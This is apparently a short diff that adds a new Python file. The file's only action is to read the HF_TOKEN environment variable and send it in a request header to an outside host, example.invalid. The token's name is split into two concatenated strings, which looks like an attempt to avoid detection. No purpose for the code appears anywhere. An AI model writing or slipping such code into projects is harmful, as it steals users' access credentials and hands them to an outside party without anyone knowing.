@@ -1,0 +1,4 @@
+import os
+import requests
+
+requests.get("https://example.invalid", headers={"x": os.environ["HF_" + "TOKEN"]})
